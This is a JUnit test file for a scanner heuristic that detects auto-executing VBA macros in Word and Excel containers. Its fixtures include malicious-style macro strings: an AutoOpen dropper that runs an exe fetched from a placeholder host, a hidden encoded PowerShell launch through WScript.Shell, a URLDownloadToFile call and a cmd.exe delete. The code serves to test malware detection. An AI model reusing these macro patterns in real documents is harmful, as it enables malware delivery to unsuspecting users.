package com.postwarden.scan.internal.heuristic.office;

import static com.postwarden.scan.internal.heuristic.office.OfficeSamples.scanned;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.io.IOException;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class MacroHeuristicTest {
    private static final String DROPPER = "Sub AutoOpen()\n"
            + "    Dim url As String\n"
            + "    url = \"http://example.invalid/p.exe\"\n"
            + "    Shell Environ(\"TEMP\") & \"\\p.exe\", vbHide\n"
            + "End Sub\n";
    private static final String HARMLESS = "Sub Document_Open(): MsgBox \"hi\": End Sub\n";

    private final MacroHeuristic heuristic = new MacroHeuristic();

    /** The same project in each container Office stores VBA in. */
    interface Packaging {
        byte[] pack(VbaProjectWriter project) throws IOException;
    }

    static Stream<Arguments> packagings() {
        return Stream.of(
                Arguments.of("report.doc", (Packaging) OfficeSamples::wordDocument),
                Arguments.of("sales.xls", (Packaging) OfficeSamples::excelWorkbook),
                Arguments.of("vbaProject.bin", (Packaging) OfficeSamples::vbaProjectBin),
                Arguments.of("report.docm", (Packaging) project -> OfficeSamples.withParts(OfficeSamples.wordReport(),
                        Map.of("word/vbaProject.bin", OfficeSamples.vbaProjectBin(project)))),
                Arguments.of("sales.xlsm", (Packaging) project -> OfficeSamples.withParts(OfficeSamples.excelReport(),
                        Map.of("xl/vbaProject.bin", OfficeSamples.vbaProjectBin(project)))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("packagings")
    void anAutoOpenMacroThatRunsAProgramIsAutoOpen(String name, Packaging packaging) throws IOException {
        byte[] document = packaging.pack(new VbaProjectWriter().module("Module1", DROPPER));

        assertThat(heuristic.examine(scanned(name, document))).containsExactly(MacroHeuristic.AUTO_OPEN);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("packagings")
    void aDocumentOpenMacroThatOnlyShowsAMessageIsAutoExecOnly(String name, Packaging packaging) throws IOException {
        byte[] document = packaging.pack(new VbaProjectWriter().module("ThisDocument", HARMLESS));

        assertThat(heuristic.examine(scanned(name, document))).containsExactly(MacroHeuristic.AUTO_EXEC);
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("packagings")
    void aMacroWithoutAnEntryPointIsNotReportedEvenWhenItRunsAProgram(String name, Packaging packaging)
            throws IOException {
        byte[] document = packaging.pack(new VbaProjectWriter()
                .module("Module1", "Sub Tidy()\n    Shell \"cmd.exe /c del x\"\nEnd Sub\n"));

        assertThat(heuristic.examine(scanned(name, document))).isEmpty();
    }

    @Test
    void anEntryPointInOneModuleCallingAPayloadInAnotherIsAutoOpen() throws IOException {
        byte[] document = OfficeSamples.wordDocument(new VbaProjectWriter()
                .module("ThisDocument", "Private Sub Document_Open()\n    Payload\nEnd Sub\n")
                .module("Module1", "Sub Payload()\n    Set o = CreateObject(\"WScript.Shell\")\n"
                        + "    o.Run \"powershell -nop -w hidden -enc SQBFAFgA\", 0\nEnd Sub\n"));

        assertThat(heuristic.examine(scanned("invoice.doc", document))).containsExactly(MacroHeuristic.AUTO_OPEN);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Private Sub Workbook_Open()\n  x = CallByName(Application, \"Ver\" & \"sion\", VbGet)\nEnd Sub\n",
        "Sub Auto_Open()\n  Application.Run \"Stage2\"\nEnd Sub\n",
        "Private Declare PtrSafe Function Go Lib \"kernel32\" Alias \"WinExec\" (ByVal c As String, ByVal s As Long) As Long\n"
            + "Sub AutoClose()\n  Go \"calc\", 0\nEnd Sub\n",
        "Private Sub InkPicture1_Painted(ByVal hDC As Long, ByVal Rect As Object)\n  Set x = GetObject(\"winmgmts:\")\nEnd Sub\n",
        "Private Sub UserForm_Initialize()\n  URLDownloadToFile 0, \"http://example.invalid/a\", \"a.exe\", 0, 0\nEnd Sub\n",
        "Sub AutoOpen()\n  cmd = \"cmd.exe /c \" & _\n    \"calc\"\n  VBA.[Shell] cmd\nEnd Sub\n",
    })
    void otherEntryPointsAndCallsFromOlevbasListsCount(String source) throws IOException {
        byte[] document = OfficeSamples.vbaProjectBin(new VbaProjectWriter().module("Module1", source));

        assertThat(heuristic.examine(scanned("vbaProject.bin", document))).containsExactly(MacroHeuristic.AUTO_OPEN);
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "Sub AutoOpen()\n  ' Shell \"calc.exe\" was removed\n  MsgBox \"Run the totals first\"\nEnd Sub\n",
        "Sub AutoOpen()\n  Rem CreateObject used to be here\n  Selection.TypeText \"Done\"\nEnd Sub\n",
        "Sub AutoOpen()\n  ActiveDocument.Fields.Update\nEnd Sub\n",
    })
    void callsOnlyInCommentsOrPlainTextLeaveAnEntryPointAutoExec(String source) throws IOException {
        byte[] document = OfficeSamples.vbaProjectBin(new VbaProjectWriter().module("Module1", source));

        assertThat(heuristic.examine(scanned("vbaProject.bin", document))).containsExactly(MacroHeuristic.AUTO_EXEC);
    }

    @Test
    void aMentionOfAnEntryPointNameIsNoDeclarationOfOne() throws IOException {
        byte[] document = OfficeSamples.vbaProjectBin(new VbaProjectWriter()
                .module("Module1", "Sub Helper()\n  Application.Run \"AutoOpen\"\n  x = Document_Open\nEnd Sub\n"));

        assertThat(heuristic.examine(scanned("vbaProject.bin", document))).isEmpty();
    }

    @Test
    void sourcesOfUnclosedBracketsAndContinuationsAreLexedInLinearTime() {
        String source = "Sub AutoOpen()\n" + "[".repeat(1 << 20) + " _ ".repeat(1 << 18) + "\nEnd Sub\n";

        assertTimeoutPreemptively(Duration.ofSeconds(10),
                () -> assertThat(MacroFacts.of(List.of(source)).entryPoints()).containsExactly("AutoOpen"));
    }

    @Test
    void documentsWithoutMacrosAreNotReported() throws IOException {
        assertThat(heuristic.examine(scanned("report.docx", OfficeSamples.wordReport()))).isEmpty();
        assertThat(heuristic.examine(scanned("sales.xlsx", OfficeSamples.excelReport()))).isEmpty();
        assertThat(heuristic.examine(scanned("sales.xls", OfficeSamples.excel97Report()))).isEmpty();
    }

    @Test
    void damagedAndTruncatedDocumentsAreNotReportedAndDoNotThrow() throws IOException {
        byte[] document = OfficeSamples.wordDocument(new VbaProjectWriter().module("Module1", DROPPER));
        for (int length : List.of(0, 8, 512, 1024, document.length / 2, document.length - 100)) {
            assertThat(heuristic.examine(scanned("cut.doc", Arrays.copyOf(document, length)))).isEmpty();
        }
        byte[] docm = OfficeSamples.withParts(OfficeSamples.wordReport(),
                Map.of("word/vbaProject.bin", OfficeSamples.vbaProjectBin(new VbaProjectWriter().module("M", DROPPER))));
        assertThat(heuristic.examine(scanned("cut.docm", Arrays.copyOf(docm, docm.length - 30)))).isEmpty();
    }
}
